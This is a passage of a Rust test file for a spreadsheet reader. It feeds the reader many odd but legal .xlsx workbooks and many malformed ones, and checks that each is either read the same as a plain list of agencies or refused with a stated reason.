//! Odd files: legal ones are read as what they say, whatever program wrote them; senseless ones are refused with their
//! reason and never read as something else. Our reading is compared with calamine's here, and with openpyxl's by
//! `tests/openpyxl_reads.py`, which reads the files that `written_for_other_readers` leaves.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::path::Path;

use calamine::{DataRef, Reader, Xlsx};
use coverage287::acquire::{Offered, OfferedContent, Refusal};
use coverage287::read::RawList;
use coverage287::spec::{SpecFiles, Specs};
use coverage287::table::Table;

use crate::support::books::*;
use crate::support::numbers::Numbers;
use crate::support::{BAY, dry_run, program, shared, workbook};

fn shipped() -> Specs {
    Specs::load(&SpecFiles::default()).unwrap()
}

/// Returns the list that a run reads from a file.
fn read_as(file_name: &str, bytes: Vec<u8>, specs: &Specs) -> Result<RawList, Box<Refusal>> {
    let offered = Offered {
        file_name: file_name.into(),
        is_named: true,
        content: OfferedContent::Bytes(bytes),
        content_sha256: None,
        stored_as: None,
    };
    let list = crate::support::read_one(&offered, specs).list;
    // A panic is caught and becomes a refusal; the test is that there is none.
    assert_ne!(list.as_ref().err(), Some(&Refusal::GaveUp), "{file_name}");
    list.map_err(Box::new)
}

const NAME: &str = "participatingAgencies06062025am.xlsx";

/// The fate of an odd file.
enum Expected {
    /// Read as the short list, as it is.
    Same,
    /// Read as the short list, so many rows further down.
    Below(u32),
    /// Refused, with these words.
    Refused(&'static str),
}
use Expected::{Below, Refused, Same};

type Case = (&'static str, Parts, Expected);

/// Renames parts, and the references to them.
fn renamed(parts: &Parts, from: &str, to: &str, refers: &[(&str, &str, &str)]) -> Parts {
    let mut parts = parts.clone();
    for (part, before, after) in refers {
        parts = with(&parts, part, |xml| xml.replace(before, after));
    }
    parts
        .into_iter()
        .map(|(name, content)| (if name == from { to.to_owned() } else { name }, content))
        .collect()
}

/// Puts every XML part into another encoding, which the part declares.
fn encoded(parts: &Parts, label: &str, encode: impl Fn(&str) -> Vec<u8>) -> Parts {
    let declared = |xml: &[u8]| {
        let xml = std::str::from_utf8(xml).unwrap();
        encode(&xml.replacen("encoding=\"UTF-8\"", &format!("encoding=\"{label}\""), 1))
    };
    parts.iter().map(|(name, xml)| (name.clone(), declared(xml))).collect()
}

fn utf_16(text: &str, mark: &[u8]) -> Vec<u8> {
    mark.iter().copied().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

/// Writes the number of a shared text otherwise, in the cells of a column that hold one.
fn numbers_as(parts: &Parts, from: &str, to: &str) -> Parts {
    with(parts, SHEET, |xml| xml.replace(from, to))
}

/// Writes each link as the formula that makes it.
fn with_formulas(parts: &Parts, list: &Listed, has_value: bool) -> Parts {
    with(parts, SHEET, |xml| {
        let mut xml = xml.to_owned();
        let end = xml.find("<hyperlinks>").unwrap();
        xml.truncate(end);
        for row in &list.rows {
            for (column, link) in [("G", &row.links[0]), ("H", &row.links[1])] {
                let Some(link) = link else { continue };
                let start = xml.find(&format!("<c r=\"{column}{}\"", row.number)).unwrap();
                let stop = start + xml[start..].find("</c>").unwrap() + 4;
                let value = if has_value { "<v>link</v>" } else { "" };
                let link = escaped(link);
                let cell = format!(
                    "<c r=\"{column}{}\" t=\"str\"><f>HYPERLINK(&quot;{link}&quot;,&quot;link&quot;)</f>{value}</c>",
                    row.number
                );
                xml.replace_range(start..stop, &cell);
            }
        }
        xml + "</worksheet>"
    })
}

/// Gives rows other numbers: a title of some rows stands above all.
fn below_a_title(parts: &Parts, rows: u32, title: &str) -> Parts {
    with(parts, SHEET, |xml| {
        let mut moved = String::new();
        for piece in xml.split_inclusive('"') {
            let name = piece.trim_end_matches('"');
            let digits = name.trim_start_matches(|c: char| c.is_ascii_uppercase());
            let is_place = name.len() - digits.len() <= 1 && digits.parse::<u32>().is_ok();
            let letters = &name[..name.len() - digits.len()];
            let is_of_row =
                moved.ends_with("<row r=\"") || moved.ends_with("<c r=\"") || moved.ends_with("ref=\"");
            if is_place && is_of_row {
                moved.push_str(&format!("{letters}{}\"", digits.parse::<u32>().unwrap() + rows));
            } else {
                moved.push_str(piece);
            }
        }
        moved.replace("<sheetData>", &format!("<sheetData>{title}"))
    })
}

fn inline(at: &str, text: &str) -> String {
    format!("<c r=\"{at}\" t=\"inlineStr\"><is><t>{text}</t></is></c>")
}

fn cases() -> Vec<Case> {
    let list = short_list();
    let plain = parts(&list, &PLAIN);
    let sheet = |from: &str, to: &str| with(&plain, SHEET, |xml| xml.replacen(from, to, 1));
    let strings = |from: &str, to: &str| with(&plain, STRINGS, |xml| xml.replacen(from, to, 1));
    let mut cases: Vec<Case> = vec![
        ("plain", plain.clone(), Same),
        ("prefixed", parts(&list, &Manner { prefix: "x:", ..PLAIN }), Same),
        ("inline", parts(&list, &Manner { is_inline: true, ..PLAIN }), Same),
        (
            "strict",
            parts(&list, &PLAIN)
                .into_iter()
                .map(|(name, xml)| {
                    let xml = String::from_utf8(xml).unwrap();
                    let xml = xml
                        .replace(
                            "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                            "http://purl.oclc.org/ooxml/spreadsheetml/main",
                        )
                        .replace(
                            "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                            "http://purl.oclc.org/ooxml/officeDocument/relationships",
                        );
                    (name, xml.into_bytes())
                })
                .collect(),
            Same,
        ),
        ("comments", sheet("<sheetData>", "<!-- <row r=\"9\"> --><sheetData><!-- > -->"), Same),
        ("comment in a text", strings("STATE", "ST<!-- no -->ATE"), Same),
        ("CDATA", strings("Bay County", "<![CDATA[Bay County]]>"), Same),
        ("CDATA in a value", sheet("<v>0</v>", "<v><![CDATA[0]]></v>"), Same),
        ("instructions", sheet("<sheetData>", "<?pi <row?><sheetData>"), Same),
        ("reference in a value", sheet("<v>1</v>", "<v>&#49;</v>"), Same),
        ("spaces in values", numbers_as(&plain, "<v>8</v>", "<v> 8\n</v>"), Same),
        ("quotes and spaces", sheet("<row r=\"1\">", "<row r = '1'\n>"), Same),
        ("UTF-16", encoded(&plain, "UTF-16", |xml| utf_16(xml, &[0xFF, 0xFE])), Same),
        ("UTF-16 without a mark", encoded(&plain, "UTF-16LE", |xml| utf_16(xml, &[])), Same),
        ("UTF-8 with a mark", encoded(&plain, "utf-8", |xml| format!("\u{feff}{xml}").into_bytes()), Same),
        (
            "Latin-1",
            encoded(&plain, "ISO-8859-1", |xml| {
                xml.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
            }),
            Same,
        ),
        (
            "Windows-1252",
            encoded(&plain, "windows-1252", |xml| {
                xml.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
            }),
            Same,
        ),
        (
            "workbook elsewhere",
            renamed(
                &renamed(
                    &plain,
                    WORKBOOK,
                    "xl/book.xml",
                    &[
                        (ROOT_RELS, "xl/workbook.xml", "xl/book.xml"),
                        (CONTENT_TYPES, "/xl/workbook.xml", "/xl/book.xml"),
                    ],
                ),
                WORKBOOK_RELS,
                "xl/_rels/book.xml.rels",
                &[],
            ),
            Same,
        ),
        (
            "texts elsewhere",
            renamed(
                &plain,
                STRINGS,
                "texts.xml",
                &[
                    (WORKBOOK_RELS, "sharedStrings.xml", "/texts.xml"),
                    (CONTENT_TYPES, "/xl/sharedStrings.xml", "/texts.xml"),
                ],
            ),
            Same,
        ),
        (
            "sheet elsewhere",
            renamed(
                &renamed(
                    &plain,
                    SHEET,
                    "sheets/one sheet.xml",
                    &[
                        (WORKBOOK_RELS, "worksheets/sheet1.xml", "../sheets/one%20sheet.xml"),
                        (CONTENT_TYPES, "/xl/worksheets/sheet1.xml", "/sheets/one%20sheet.xml"),
                    ],
                ),
                SHEET_RELS,
                "sheets/_rels/one sheet.xml.rels",
                &[],
            ),
            Same,
        ),
        (
            "no package relationships",
            plain.iter().filter(|(name, _)| name != ROOT_RELS).cloned().collect(),
            Same,
        ),
        ("no content types", plain.iter().filter(|(name, _)| name != CONTENT_TYPES).cloned().collect(), Same),
        (
            "names with a slash first",
            plain
                .iter()
                .map(|(name, xml)| {
                    (if name == CONTENT_TYPES { name.clone() } else { format!("/{name}") }, xml.clone())
                })
                .collect(),
            Same,
        ),
        (
            "names with backslashes",
            plain.iter().map(|(name, xml)| (name.replace('/', "\\"), xml.clone())).collect(),
            Same,
        ),
        (
            "names in lower case",
            plain.iter().map(|(name, xml)| (name.to_lowercase(), xml.clone())).collect(),
            Same,
        ),
        ("zero-width space in a header", strings("STATE", "STATE\u{200b}"), Same),
        (
            "byte order mark in a header",
            strings("<t xml:space=\"preserve\">STATE", "<t xml:space=\"preserve\">\u{feff}STATE"),
            Same,
        ),
        ("formulas with values", with_formulas(&plain, &list, true), Same),
        ("formulas without values", with_formulas(&plain, &list, false), Same),
        (
            "runs and how they are said",
            strings(
                "<t xml:space=\"preserve\">Bay County</t>",
                "<r><rPr><b/></rPr><t xml:space=\"preserve\">Bay </t></r><r><t>County</t></r><rPh sb=\"0\" eb=\"1\"><t>BEI</t></rPh>",
            ),
            Same,
        ),
        (
            "no cell references",
            {
                let manner = Manner { has_blank_cells: true, ..PLAIN };
                with(&parts(&list, &manner), SHEET, |xml| {
                    let (rows, links) = xml.split_once("<hyperlinks>").unwrap();
                    let mut bare = String::new();
                    for piece in rows.split_inclusive('"') {
                        if let Some(kept) = piece.strip_suffix("<c r=\"") {
                            bare.push_str(kept);
                            bare.push_str("<c r=\"");
                        } else {
                            bare.push_str(piece);
                        }
                    }
                    // Drop the references themselves.
                    let mut out = String::new();
                    let mut rest = bare.as_str();
                    while let Some(at) = rest.find("<c r=\"") {
                        out.push_str(&rest[..at + 2]);
                        let after = &rest[at + 6..];
                        rest = &after[after.find('"').unwrap() + 1..];
                    }
                    format!("{out}{rest}<hyperlinks>{links}")
                })
            },
            Same,
        ),
        (
            "other elements",
            sheet(
                "<row r=\"2\">",
                "<o:row xmlns:o=\"urn:o\" r=\"9\"><c/></o:row><row r=\"2\"><o:c xmlns:o=\"urn:o\" r=\"A2\" t=\"x\"><v>1</v></o:c>",
            ),
            Same,
        ),
        (
            "prefix declared late",
            sheet(
                "<hyperlink ref=\"G2\" r:id=",
                "<hyperlink xmlns:q=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" ref=\"G2\" q:id=",
            ),
            Same,
        ),
        (
            "an external list of links",
            with(&plain, WORKBOOK, |xml| {
                xml.replace("<sheets>", "<mc:AlternateContent xmlns:mc=\"urn:mc\"><mc:Choice><sheets/></mc:Choice></mc:AlternateContent><sheets>")
            }),
            Same,
        ),
        (
            "days from 1904",
            with(
                &with(&plain, WORKBOOK, |xml| {
                    xml.replace("<sheets>", "<workbookPr date1904=\"1\"/><sheets>")
                }),
                SHEET,
                |xml| {
                    let mut xml = xml.to_owned();
                    for row in &list.rows {
                        let day: f64 =
                            serial("SIGNED", row.cells[5].as_deref().unwrap()).unwrap().parse().unwrap();
                        xml = xml.replace(&format!("<v>{day}</v>"), &format!("<v>{}</v>", day - 1_462.0));
                    }
                    xml
                },
            ),
            Same,
        ),
        (
            "a title above",
            below_a_title(
                &plain,
                1,
                &format!("<row r=\"1\">{}</row>", inline("A1", "Participating Agencies")),
            ),
            Below(1),
        ),
        (
            "a title of several rows",
            below_a_title(
                &plain,
                4,
                &format!(
                    "<row r=\"1\">{}</row><row r=\"3\">{}{}</row>",
                    inline("A1", "ICE"),
                    inline("A3", "As of"),
                    inline("B3", "6/6/2025")
                ),
            ),
            Below(4),
        ),
        // Values that cannot be what they say.
        (
            "no digit of ours",
            numbers_as(&plain, "<v>8</v>", "<v>\u{668}</v>"),
            Refused("cell A2 points to shared text \"\u{668}\""),
        ),
        (
            "a negative number of a text",
            numbers_as(&plain, "<v>8</v>", "<v>-8</v>"),
            Refused("points to shared text \"-8\""),
        ),
        (
            "a sign before a number of a text",
            numbers_as(&plain, "<v>8</v>", "<v>+8</v>"),
            Refused("points to shared text"),
        ),
        (
            "a fraction of a text",
            numbers_as(&plain, "<v>8</v>", "<v>8.0</v>"),
            Refused("points to shared text"),
        ),
        (
            "a text that is not there",
            numbers_as(&plain, "<v>8</v>", "<v>88888</v>"),
            Refused("of which there are"),
        ),
        (
            "a word for a number",
            numbers_as(&plain, "<v>42529</v>", "<v>425z29</v>"),
            Refused("cell F2 is no number but \"425z29\""),
        ),
        ("an infinite day", numbers_as(&plain, "<v>42529</v>", "<v>1e999</v>"), Refused("is no number")),
        ("a type nobody knows", sheet("t=\"s\"", "t=\"sz\""), Refused("is of a type \"sz\"")),
        (
            "a format nobody knows",
            sheet("s=\"1\"", "s=\"99\""),
            Refused("has the format \"99\", which the workbook does not have"),
        ),
        (
            "a cell of another row",
            sheet("r=\"C2\"", "r=\"C3\""),
            Refused("holds a cell \"C3\", which is not in it"),
        ),
        ("two values", sheet("<v>8</v>", "<v>8</v><v>9</v>"), Refused("holds more than one value")),
        (
            "a text of another form",
            sheet("<c r=\"A2\" t=\"s\"><v>8</v></c>", "<c r=\"A2\" t=\"s\"><is><t>x</t></is></c>"),
            Refused("holds its text in the form of another"),
        ),
        (
            "neither true nor false",
            sheet("<c r=\"A2\" t=\"s\"><v>8</v></c>", "<c r=\"A2\" t=\"b\"><v>8</v></c>"),
            Refused("neither true nor false"),
        ),
        (
            "rows in two parts",
            sheet("</sheetData>", "</sheetData><sheetData><row r=\"9\"/></sheetData>"),
            Refused("in more than one part"),
        ),
        ("rows out of order", sheet("<row r=\"3\">", "<row r=\"1\">"), Refused("which is not in it")),
        ("an attribute twice", sheet("<c r=\"A2\"", "<c r=\"A2\" r=\"A2\""), Refused("\"r\" twice")),
        (
            "a document type",
            strings("<sst", "<!DOCTYPE sst [<!ENTITY a \"b\">]><sst"),
            Refused("document type"),
        ),
        (
            "an entity nobody knows",
            strings("Bay County", "Bay&nbsp;County"),
            Refused("\"&nbsp;\" that is not known"),
        ),
        (
            "a part cut short",
            with(&plain, STRINGS, |xml| xml[..xml.len() / 2].to_owned()),
            Refused("sharedStrings.xml"),
        ),
        (
            "not in its encoding",
            encoded(&plain, "UTF-8", |xml| xml.chars().map(|c| c as u8).collect()),
            Refused("no text in UTF-8"),
        ),
        (
            "an encoding nobody knows",
            encoded(&plain, "EBCDIC-9", |xml| xml.as_bytes().to_vec()),
            Refused("encoding \"ebcdic-9\""),
        ),
        (
            "two relationships with one id",
            with(&plain, WORKBOOK_RELS, |xml| xml.replace("rId2", "rId1")),
            Refused("two relationships have one id"),
        ),
        (
            "a sheet that leads nowhere",
            with(&plain, WORKBOOK, |xml| xml.replace("r:id=\"rId1\"", "r:id=\"rId7\"")),
            Refused("leads to no part"),
        ),
        (
            "a sheet that is not there",
            with(&plain, WORKBOOK_RELS, |xml| xml.replace("sheet1.xml", "sheet7.xml")),
            Refused("which is not there"),
        ),
        ("a link behind no cell", sheet("ref=\"G2\"", "ref=\"G-\""), Refused("link behind no cell")),
        (
            "its header in the middle",
            with(&plain, SHEET, |xml| {
                // The header, sorted among the rows.
                let start = xml.find("<row r=\"1\">").unwrap();
                let end = start + xml[start..].find("</row>").unwrap() + 6;
                let header = xml[start..end].to_owned();
                let first = xml.find("<row r=\"2\">").unwrap();
                let first_end = first + xml[first..].find("</row>").unwrap() + 6;
                let row = xml[first..first_end].to_owned();
                let swap = |row: &str, from: char, to: char| {
                    ('A'..='H').fold(
                        row.replace(&format!("<row r=\"{from}\""), &format!("<row r=\"{to}\"")),
                        |row, letter| {
                            row.replace(&format!("r=\"{letter}{from}\""), &format!("r=\"{letter}{to}\""))
                        },
                    )
                };
                xml.replace(
                    &format!("{header}{row}"),
                    &format!("{}{}", swap(&row, '2', '1'), swap(&header, '1', '2')),
                )
            }),
            Refused("looks like a row of the list, and the header is below it, in row 2"),
        ),
        ("no workbook", vec![("a.txt".to_owned(), b"x".to_vec())], Refused("is neither")),
        (
            "a binary workbook",
            renamed(&plain, WORKBOOK, "xl/workbook.bin", &[(ROOT_RELS, "workbook.xml", "workbook.bin")]),
            Refused("binary .xlsb"),
        ),
    ];
    cases.extend([
        ("an element in a value", sheet("<v>8</v>", "<v>8<b/>9</v>"), Refused("an element \"b\" within a text")),
        ("words between cells", sheet("<row r=\"2\">", "<row r=\"2\">words"), Refused("text between elements")),
        (
            "an element nobody knows",
            sheet("<c r=\"A2\" t=\"s\"><v>8</v></c>", "<d r=\"A2\" t=\"s\"><v>8</v></d>"),
            Refused("an element \"d\""),
        ),
        ("words beside a text", strings("<si>", "<si>words"), Refused("text between elements")),
        (
            "a format without a number",
            with(&plain, STYLES, |xml| xml.replace("numFmtId=\"164\" font", "numFmtId=\"x\" font")),
            Refused("a format with the number \"x\""),
        ),
        (
            "formats that are not there",
            plain.iter().filter(|(name, _)| name != STYLES).cloned().collect(),
            Refused("the formats of cells is not there"),
        ),
        (
            "days from nobody knows when",
            with(&plain, WORKBOOK, |xml| xml.replace("<sheets>", "<workbookPr date1904=\"yes\"/><sheets>")),
            Refused("says \"yes\" of its days from 1904"),
        ),
        (
            "a link behind a column",
            sheet("<hyperlink ref=\"H3\" ", "<hyperlink ref=\"C:C\" r:id=\"rId1\"/><hyperlink ref=\"H3\" "),
            Same,
        ),
        (
            "runs without a word on spaces",
            strings("<t xml:space=\"preserve\">Bay County</t>", "<r><t>Bay </t></r><r><t>County</t></r>"),
            Same,
        ),
        ("a declaration in a comment", sheet("<sheetData>", "<!-- <?xml > --><sheetData>"), Same),
        (
            "joined cells without values",
            sheet("</sheetData>", "</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:H1\"/><mergeCell ref=\"J2:K9\"/></mergeCells>"),
            Same,
        ),
        ("a control character", strings("Bay County", "Bay\u{1} County"), Refused("control character")),
        ("a control character by number", strings("Bay County", "Bay&#1; County"), Refused("character that XML does not allow")),
        ("formats of a mistyped relationship", with(&plain, WORKBOOK_RELS, |xml| xml.replace("/styles\"", "/stiles\"")), Same),
        ("a line break in a target", with(&plain, SHEET_RELS, |xml| xml.replace("a b&amp;c.pdf", "a\nb&amp;c.pdf")), Same),
        (
            "a title as full as half a row",
            below_a_title(&plain, 1, &format!("<row r=\"1\">{}{}{}{}</row>", inline("A1", "Participating"), inline("B1", "5"), inline("C1", "as of"), inline("D1", "6/6/2025"))),
            Below(1),
        ),
        (
            "a damaged list and an old one behind it",
            {
                let manner = Manner { sheet_before: Some("Export Summary"), ..PLAIN };
                let damaged = with(&parts(&list, &manner), "xl/worksheets/sheet2.xml", |xml| xml.replace("r=\"B2\"", "r=\"B3\""));
                with(&damaged, WORKBOOK, |xml| xml.replace("sheetId=\"1\"", "sheetId=\"1\" state=\"hidden\""))
            },
            Refused("holds a cell \"B3\", which is not in it"),
        ),
    ]);
    for (name, count) in [
        ("a huge count", " uniqueCount=\"4294967295\""),
        ("a huge count in single quotes", " uniqueCount='4294967295'"),
        ("a huge count after a space", " uniqueCount= \"4294967295\""),
        ("a huge count before a space", " uniqueCount =\"4294967295\""),
        ("a huge count with a sign", " uniqueCount=\"+4294967295\""),
        ("a huge count by reference", " uniqueCount=\"&#52;294967295\""),
        ("the largest count", " uniqueCount=\"18446744073709551615\""),
    ] {
        let said = with(&plain, STRINGS, |xml| {
            let end = xml.find(" count=").unwrap();
            let close = end + xml[end..].find('>').unwrap();
            format!("{}{count}{}", &xml[..end], &xml[close..])
        });
        cases.push((name, said, Same));
    }
    cases
}

/// The short list, so many rows further down.
fn short_list_below(rows: u32) -> Listed {
    let mut list = short_list();
    list.rows.iter_mut().for_each(|row| row.number += rows);
    list
}

#[test]
fn odd_workbooks_are_read_right_or_refused() {
    let specs = shipped();
    let cases = cases();
    println!("{} odd forms", cases.len());
    for (name, parts, expected) in cases {
        let found = read_as(NAME, archive(&parts), &specs);
        match expected {
            Same | Below(_) => {
                let rows = if let Below(rows) = expected { rows } else { 0 };
                let found = found.unwrap_or_else(|refusal| panic!("{name}: {refusal}"));
                assert_eq!(listed(&found), short_list_below(rows), "{name}");
                let titles = found.aside.iter().filter(|said| said.contains("above the header")).count();
                assert_eq!(titles > 0, rows > 0, "{name}: {:?}", found.aside);
            }
            Refused(words) => match found {
                Ok(list) => panic!("{name} was read: {:?}", listed(&list)),
                Err(refusal) => assert!(refusal.to_string().contains(words), "{name}: {refusal}"),
            },
        }
    }
}

#[test]
fn what_is_set_aside_of_links_and_formulas_is_said() {
    let specs = shipped();
    let list = short_list();
    let plain = parts(&list, &PLAIN);
    let made = with(&plain, SHEET, |xml| {
        xml.replacen(
            "<hyperlink ref=\"G2\" r:id=\"rId1\"/>",
            "<hyperlink ref=\"G2:G3\" location=\"Sheet1!A1\"/>",
            1,
        )
        .replacen("<c r=\"D4\" t=\"s\">", "<c r=\"D4\"><f>B4&amp;\"x\"</f></c><c r=\"DD4\" t=\"s\">", 1)
        .replacen("<c r=\"H5\" t=\"s\">", "<c r=\"H5\" t=\"s\"><f>HYPERLINK(A1)</f>", 1)
    });
    // The cell in column DD is beyond what a list may have.
    assert!(read_as(NAME, archive(&made), &specs).unwrap_err().to_string().contains("widest row"));
    let made = with(&made, SHEET, |xml| {
        xml.replace("r=\"DD4\"", "r=\"J4\"")
            .replace("<c r=\"E4\"", "<c r=\"K4\"")
            .replace("<c r=\"F4\"", "<c r=\"L4\"")
            .replace("<c r=\"G4\"", "<c r=\"M4\"")
    });
    let read = read_as(NAME, archive(&made), &specs).unwrap();
    let found = listed(&read);
    // A link to a place within the workbook is kept as printed; normalising makes no address of it.
    assert_eq!(found.rows[0].links[0].as_deref(), Some("#Sheet1!A1"));
    // Values under a merged cell are seen by nobody.
    let joined = with(&plain, SHEET, |xml| {
        xml.replacen("</sheetData>", "</sheetData><mergeCells><mergeCell ref=\"D2:E3\"/></mergeCells>", 1)
    });
    let found = read_as(NAME, archive(&joined), &specs).unwrap();
    let rows = listed(&found).rows;
    let cells: Vec<_> = rows[..2].iter().map(|row| (row.cells[3].clone(), row.cells[4].clone())).collect();
    assert_eq!(cells, [(Some("Etowah County".to_owned()), None), (None, None)]);
    assert!(found.aside.iter().any(|said| said.starts_with("3 values lie under")), "{:?}", found.aside);
    // A cell without a value uses the shared formula of another; and a formula comes to an empty text.
    let shared = with(&plain, SHEET, |xml| {
        xml.replacen(
            "<c r=\"G2\" t=\"s\"><v>13</v></c>",
            "<c r=\"G2\" t=\"str\"><f t=\"shared\" ref=\"G2:G3\" si=\"0\">HYPERLINK(\"https://www.ice.gov/s.pdf\",\"link\")</f><v>link</v></c>",
            1,
        )
        .replacen("<c r=\"G3\" t=\"s\"><v>13</v></c>", "<c r=\"G3\"><f t=\"shared\" si=\"0\"/></c>", 1)
        .replacen("<c r=\"D4\" t=\"s\"><v>20</v></c>", "<c r=\"D4\" t=\"str\"><f>\"\"</f><v></v></c>", 1)
        .replace("<hyperlink ref=\"G2\" r:id=\"rId1\"/><hyperlink ref=\"G3\" r:id=\"rId2\"/>", "")
    });
    let found = read_as(NAME, archive(&shared), &specs).unwrap();
    let rows = listed(&found).rows;
    assert_eq!([0, 1].map(|row| rows[row].links[0].as_deref()), [Some("https://www.ice.gov/s.pdf"); 2]);
    assert_eq!((rows[1].cells[6].as_deref(), rows[2].cells[3].as_deref()), (None, None));
    let lost: Vec<_> =
        found.aside.iter().filter(|said| said.contains("a formula without its value")).collect();
    assert_eq!(lost, ["1 cells hold a formula without its value and were read as blank"]);
    assert!(
        read.aside.iter().any(|said| said.contains("1 cells hold a formula without its value")),
        "{:?}",
        read.aside
    );
    assert_eq!((read.lost_links, read.stray_cells), (1, 4));
}

/// Returns a list with its days as a spreadsheet program shows them.
fn as_shown(list: &Listed) -> Listed {
    let mut list = list.clone();
    for row in &mut list.rows {
        let day = row.cells[5].as_deref().and_then(|text| text.parse::<jiff::civil::Date>().ok());
        if let Some(day) = day {
            row.cells[5] = Some(day.strftime("%-m/%-d/%Y").to_string());
        }
    }
    list
}

/// Every form in which programs save one real list gives the same tables.
#[test]
fn every_programs_export_of_a_list_gives_the_same_tables() {
    let specs = shipped();
    let tidy = std::fs::read(&crate::support::four_lists()[1]).unwrap();
    let list = listed(&read_as("participatingAgencies06062025am.csv", tidy, &specs).unwrap());
    assert_eq!(list.rows.len(), 649);
    let name = "participatingAgencies06062025am";
    let xlsx = |manner: &Manner| archive(&parts(&list, manner));
    let forms: Vec<(&str, String, Vec<u8>)> = vec![
        ("Excel", format!("{name}.xlsx"), xlsx(&PLAIN)),
        ("openpyxl", format!("{name}.xlsx"), xlsx(&Manner { day_format: "yyyy-mm-dd h:mm:ss", ..PLAIN })),
        (
            "LibreOffice",
            format!("{name}.xlsx"),
            xlsx(&Manner {
                day_format: "[$-409]m/d/yyyy",
                has_blank_cells: true,
                blank_rows_after: 40,
                ..PLAIN
            }),
        ),
        (
            "Google Sheets",
            format!("{name}.xlsx"),
            xlsx(&Manner { day_format: "m/d/yyyy", has_blank_cells: true, blank_rows_after: 351, ..PLAIN }),
        ),
        (
            "Numbers",
            format!("{name}.xlsx"),
            xlsx(&Manner {
                day_format: "m/d/yy",
                has_blank_cells: true,
                sheet: "Sheet 1 - Table 1",
                sheet_before: Some("Export Summary"),
                ..PLAIN
            }),
        ),
        ("Open XML SDK", format!("{name}.xlsx"), xlsx(&Manner { prefix: "x:", is_inline: true, ..PLAIN })),
        ("OpenDocument", format!("{name}.ods"), archive(&open_document(&list))),
        ("CSV", format!("{name}.csv"), csv(&list, ',').into_bytes()),
        ("CSV with days as shown", format!("{name}.csv"), csv(&as_shown(&list), ',').into_bytes()),
        ("CSV with semicolons", format!("{name}.csv"), csv(&list, ';').into_bytes()),
        ("text with tabs in UTF-16", format!("{name}.tsv"), utf_16(&csv(&list, '\t'), &[0xFF, 0xFE])),
    ];
    let mut first: Option<(Table, Table)> = None;
    for (program, file_name, bytes) in forms {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(&file_name);
        std::fs::write(&path, bytes).unwrap();
        let done = dry_run(&[path]);
        // CSV has no links behind its cells; a list with another sheet has a note that says so.
        let is_text = !file_name.ends_with(".xlsx") && !file_name.ends_with(".ods");
        let links = ["moa_url", "addendum_url", "moa_link_printed", "addendum_link_printed"];
        let mut apart = vec!["list_id", "file_name", "sha256"];
        let reason = crate::support::cell(&crate::support::table(&done, "lists"), "reason", 0);
        if program == "Numbers" {
            assert_eq!(reason, "sheet \"Export Summary\" is no list and was passed over");
            apart.push("reason");
        } else {
            assert_eq!(reason, "", "{program}");
        }
        if is_text {
            apart.extend(links);
        }
        if program.ends_with("as shown") {
            apart.push("signed_printed");
        }
        let tables = ["listings", "lists"].map(|name| crate::support::table(&done, name));
        let Some((listings, lists)) = &first else {
            assert_eq!(tables[0].row_count(), 649);
            first = Some(tables.into());
            continue;
        };
        for (found, expected) in tables.iter().zip([listings, lists]) {
            assert_eq!(found.row_count(), expected.row_count(), "{program}");
            for column in expected.names().into_iter().filter(|name| !apart.contains(name)) {
                let of = |table: &Table| table.select(&[column]).unwrap();
                assert!(of(found) == of(expected), "{program}: {column}");
            }
        }
    }
}

/// The first sheet as calamine reads it: cells by row and column, both counted from 1, and links by cell.
type Cells = BTreeMap<(u32, u32), String>;

fn by_calamine(bytes: &[u8]) -> Option<(Cells, Cells)> {
    let read = || {
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).ok()?;
        let sheet = book.sheets_metadata().first()?.name.clone();
        let mut cells = Cells::new();
        let mut reader = book.worksheet_cells_reader(&sheet).ok()?;
        while let Some(cell) = reader.next_cell().ok()? {
            let (row, column) = cell.get_position();
            let text = match cell.get_value() {
                DataRef::Empty => String::new(),
                DataRef::String(text) | DataRef::DateTimeIso(text) | DataRef::DurationIso(text) => {
                    text.clone()
                }
                DataRef::SharedString(text) => (*text).to_owned(),
                DataRef::Bool(is) => is.to_string().to_uppercase(),
                DataRef::Int(number) => number.to_string(),
                DataRef::Float(number) => number.to_string(),
                DataRef::DateTime(day) => {
                    let (year, month, day_of, hour, minute, second, _) = day.to_ymd_hms_milli();
                    if (hour, minute, second) == (0, 0, 0) {
                        format!("{year:04}-{month:02}-{day_of:02}")
                    } else {
                        format!("{year:04}-{month:02}-{day_of:02}T{hour:02}:{minute:02}:{second:02}")
                    }
                }
                DataRef::Error(error) => error.to_string(),
            };
            if !text.trim().is_empty() {
                cells.insert((row + 1, column + 1), text);
            }
        }
        drop(reader);
        let mut links = Cells::new();
        for link in book.hyperlinks_by_sheet_name(&sheet).ok()? {
            let Some(target) = link.target else { continue };
            for row in link.range.start.0..=link.range.end.0.min(20_000) {
                for column in link.range.start.1..=link.range.end.1.min(20) {
                    links.insert((row + 1, column + 1), target.clone());
                }
            }
        }
        // Our reading keeps the target of a wrapped link.
        for text in cells.values_mut().chain(links.values_mut()) {
            *text = coverage287::addresses::without_mailboxes(text).into_owned();
        }
        Some((cells, links))
    };
    std::panic::catch_unwind(read).ok()?
}

/// Replaces a text in a part by something legal, or something that looks so.
fn alter(parts: &mut Parts, numbers: &mut Numbers) {
    const CHANGES: [(&str, &str, &str); 40] = [
        (SHEET, "<v>1", "<v>2"),
        (SHEET, "<v>2", "<v>"),
        (SHEET, "</v>", "0</v>"),
        (SHEET, "<v>", "<v> "),
        (SHEET, " t=\"s\"", ""),
        (SHEET, " t=\"s\"", " t=\"n\""),
        (SHEET, " t=\"s\"", " t=\"str\""),
        (SHEET, " t=\"s\"", " t=\"e\""),
        (SHEET, " t=\"s\"", " t=\"b\""),
        (SHEET, " s=\"1\"", " s=\"0\""),
        (SHEET, " s=\"1\"", ""),
        (SHEET, " s=\"1\"", " s=\"2\""),
        (SHEET, "<v>4", "<v>-4"),
        (SHEET, "<v>4", "<v>0.4"),
        (SHEET, "<v>45", "<v>4.5e"),
        (SHEET, " r=\"B", " r=\"C"),
        (SHEET, " r=\"A", " r=\"AA"),
        (SHEET, "<row r=\"3\"", "<row r=\"4\""),
        (SHEET, "<row r=\"5\"", "<row"),
